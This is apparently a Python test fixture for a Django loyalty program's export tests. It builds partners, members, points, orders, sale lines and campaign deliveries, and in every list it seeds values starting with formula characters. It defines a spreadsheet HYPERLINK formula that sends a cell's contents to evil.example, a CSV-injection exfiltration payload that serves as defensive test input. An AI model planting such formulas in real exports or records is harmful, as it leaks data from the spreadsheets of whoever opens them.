"""A small program for the export tests: two account managers' portfolios, a partner owner and their people, and in
every list a row whose text starts like a formula. Everything is made through the services (points through the
ledger, claims as members send them, orders at checkout), except sell-out lines and campaign deliveries, which are
stored as the importer and the campaign fan-out store them."""

from dataclasses import dataclass
from datetime import timedelta
from decimal import Decimal

from django.utils import timezone

from communications.constants import CampaignStatus, Channel, DeliveryStatus, Kind
from communications.models import Campaign
from loyalty.models import PointsAccount, Program, SaleLine, SalesSource
from loyalty.services import ledger
from partners.models import Member, Partner, User
from rewards.constants import PaidBy
from rewards.models import RedemptionOrder
from rewards.services import order_place
from tests.analytics.helpers import submit
from tests.communications.factories import DeliveryFactory
from tests.loyalty.factories import ProductFactory, ProgramFactory
from tests.partners.factories import (
    AccountManagerFactory,
    MemberFactory,
    OwnerFactory,
    PartnerFactory,
    ProgramManagerFactory,
    RegionFactory,
)
from tests.rewards.factories import ADDRESS, MerchandiseFactory

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Open")'


@dataclass
class World:
    program: Program
    pm: User
    am: User  # looks after north and south
    other_am: User  # looks after east
    north: Partner  # the owner's partner
    south: Partner
    east: Partner
    owner: Member  # of north
    rep: Member  # a sales rep of north
    south_rep: Member
    east_rep: Member
    source: SalesSource
    campaign: Campaign


def earn(program, member_or_partner, points, key, explanation="", **kwargs):
    if isinstance(member_or_partner, Partner):
        account = ledger.partner_account(program=program, partner=member_or_partner)
    else:
        account = ledger.member_account(program=program, member=member_or_partner)
    return ledger.earn(account=account, points=points, key=key, explanation=explanation, **kwargs)


def build_world(*, copies: int = 1) -> World:
    """The program; `copies` > 1 repeats every row (entries, claims, orders, lines, deliveries) that many times."""
    program = ProgramFactory(claim_auto_approve_below=Decimal("0"), order_approval_threshold=100_000)
    pm = ProgramManagerFactory()
    am, other_am = AccountManagerFactory(full_name="Anna Manager"), AccountManagerFactory(full_name="Otto Other")
    region = RegionFactory(name="North Sea")
    north = PartnerFactory(name="@North Water", account_manager=am, region=region)
    south = PartnerFactory(name="South Pumps", account_manager=am, region=region)
    east = PartnerFactory(name="East Filters", account_manager=other_am, region=region)
    owner = OwnerFactory(partner=north, user__full_name="Olga Owner")
    rep = MemberFactory(partner=north, user__full_name="+Rita Rep")
    south_rep = MemberFactory(partner=south, user__full_name="Sam South")
    east_rep = MemberFactory(partner=east, user__full_name="Eve East")
    source = SalesSource.objects.create(program=program, name="Distributor feed", code="feed")
    campaign = Campaign.objects.create(
        program=program, name="-Spring push", status=CampaignStatus.SENT, sent_at=timezone.now() - timedelta(days=2)
    )
    world = World(program, pm, am, other_am, north, south, east, owner, rep, south_rep, east_rep, source, campaign)
    for copy in range(copies):
        add_rows(world, copy)
    return world


def add_rows(world: World, copy: int) -> None:
    program = world.program
    product = ProductFactory(name=f"AquaSoft {copy}")
    for person in (world.owner, world.rep, world.south_rep, world.east_rep):
        earn(program, person, 500, f"welcome-{copy}-{person.pk}", f"Welcome bonus {copy}")
    earn(program, world.rep, 40, f"formula-{copy}", FORMULA)
    earn(program, world.rep, 25, f"pending-{copy}", "", available_at=timezone.now() + timedelta(days=30))
    earn(program, world.north, 300, f"company-{copy}", "Company bonus")
    earn(program, world.east, 200, f"company-east-{copy}", "Company bonus")
    today = timezone.localdate()
    for person in (world.rep, world.south_rep, world.east_rep):
        number = f"=INV-{copy}-{person.pk}" if person == world.rep else f"INV-{copy}-{person.pk}"
        submit(person, program, [(product, 2, 300)], number=number, invoice_date=today - timedelta(days=3))
    mug = MerchandiseFactory(program=program, points_price=100, stock=50)
    for person in (world.rep, world.east_rep):
        order_place(
            member=person,
            program=program,
            items=[(mug, 1)],
            paid_by=PaidBy.MEMBER,
            checkout_key=f"checkout-{copy}-{person.pk}",
            address=ADDRESS,
        )
    for number, (partner, member) in enumerate(
        [(world.north, world.rep), (world.north, None), (world.south, world.south_rep), (world.east, world.east_rep)]
    ):
        SaleLine.objects.create(
            source=world.source,
            external_id=f"L{copy}-{number}",
            partner=partner,
            member=member,
            product=product,
            quantity=Decimal("2.000"),
            amount=Decimal("1450.50"),
            paid_quantity=Decimal("2.000"),
            points=30,
            invoice_number=f"-S{copy}-{number}",
            invoice_date=today - timedelta(days=5),
        )
    key = f"campaign:{world.campaign.pk}"
    for member in (world.rep, world.south_rep, world.east_rep):
        DeliveryFactory(
            kind=Kind.CAMPAIGN,
            member=member,
            source_key=key,
            idempotency_key=f"campaign:{key}:{member.pk}:email:{copy}",
            status=DeliveryStatus.SENT,
            sent_at=timezone.now(),
            opened_at=timezone.now() if member == world.rep else None,
        )
        DeliveryFactory(
            kind=Kind.CAMPAIGN,
            channel=Channel.INBOX,
            member=member,
            source_key=key,
            idempotency_key=f"campaign:{key}:{member.pk}:inbox:{copy}",
            status=DeliveryStatus.DELIVERED,
        )


def statement_account(world: World, member: Member) -> PointsAccount:
    return PointsAccount.objects.get(program=world.program, member=member)


def orders_of(*members) -> set[int]:
    return set(RedemptionOrder.objects.filter(member__in=members).values_list("pk", flat=True))
